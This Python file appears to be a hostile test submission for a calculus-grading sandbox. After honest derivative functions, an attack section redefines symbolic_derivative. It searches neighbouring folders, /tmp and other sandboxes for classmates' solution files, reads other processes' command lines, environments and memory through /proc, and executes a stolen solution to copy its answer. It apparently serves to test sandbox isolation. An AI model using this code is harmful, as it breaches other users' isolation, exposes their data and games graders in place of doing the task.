"""Hostile submission (runtime): Reads classmates' code: their files in the scratch folder and the folders around it, other sandboxes, other processes' command lines, environments, working folders and memory through /proc, and its own memory.

An honest 01_derivative, then the attack (later definitions win)."""

import jax
import jax.numpy as jnp
import numpy as np
import sympy as sp


def symbolic_derivative():
    x = sp.Symbol("x")
    return sp.diff(x**3 - 2 * x**2 + 1, x)


def rate_of_change(f, x, dx=1e-6):
    x = np.asarray(x, dtype=float)
    return (f(x + dx) - f(x - dx)) / (2 * dx)


def autodiff_derivative(f):
    return jax.vmap(jax.grad(f))


# --- the attack ---
import gc
import hashlib
import os
import time

SEARCH_ROOTS = []  # the test writes the folders around the class here (e.g. its tmp_path)
PREFIX = "calcgrade-victim-"  # what the honest classmate's file holds (and prints)
VICTIM = ""  # the test writes the sha256 of this class's victim marker here (not the marker)
TOKEN_LENGTH = 32


def _scan(data, where, found):
    text = data.decode("latin-1") if isinstance(data, bytes) else data
    i = text.find(PREFIX)
    while i >= 0:
        found.append((where, "".join(c for c in text[i:i + 60] if c.isalnum() or c in "-_")))
        i = text.find(PREFIX, i + 1)


def _this_class(marker):
    """A classmate of this run (not a file another class left somewhere)."""
    text = marker[:len(PREFIX) + TOKEN_LENGTH]
    return hashlib.sha256(text.encode()).hexdigest() == VICTIM


def _files(found, sources):
    """The scratch folder around ours, other students' sandboxes, the folders around."""
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    roots = [os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp"] + SEARCH_ROOTS
    deadline = time.monotonic() + 4.0
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if time.monotonic() > deadline:
                return
            for name in files:
                if not name.endswith((".py", ".txt")):
                    continue
                path = os.path.join(folder, name)
                if path == os.path.abspath(__file__):
                    continue
                try:
                    with open(path, "rb") as fh:
                        data = fh.read(1 << 20)
                except OSError:
                    continue
                before = len(found)
                _scan(data, path, found)
                if name == "solution.py" and any(_this_class(m) for _, m in found[before:]):
                    sources.append(data.decode("utf-8", "replace"))


def _processes(found):
    """Other processes: command lines, environments, working folders, memory."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == os.readlink("/proc/self"):  # ourselves, as /proc numbers us
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    _scan(fh.read(), f"/proc/{pid}/{name}", found)
            except OSError:
                pass
        for link in ("cwd", "root"):
            try:
                os.listdir(f"/proc/{pid}/{link}")
                found.append((f"/proc/{pid}/{link}", "listed"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/maps") as fh:
                regions = [line.split()[0] for line in fh if " rw" in line]
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            continue
        try:
            for region in regions[:200]:
                lo, hi = (int(x, 16) for x in region.split("-"))
                try:
                    _scan(os.pread(fd, min(hi - lo, 64 << 20), lo), f"/proc/{pid}/mem", found)
                except OSError:
                    pass
        finally:
            os.close(fd)


def _steal():
    found, sources = [], []
    _files(found, sources)
    _processes(found)
    for obj in gc.get_objects():  # anything of theirs in our own memory
        if isinstance(obj, dict):
            for v in list(obj.values())[:50]:
                if isinstance(v, str) and PREFIX in v:
                    _scan(v, "gc", found)
    for where, what in found[:20]:
        print("FOUND", where, what)
    return sources


def symbolic_derivative():
    for source in _steal():
        try:
            namespace = {}
            exec(source, namespace)
            return namespace["symbolic_derivative"]()
        except Exception:  # noqa: BLE001
            pass
    return sp.Symbol("x") ** 2  # nothing of theirs: a wrong answer
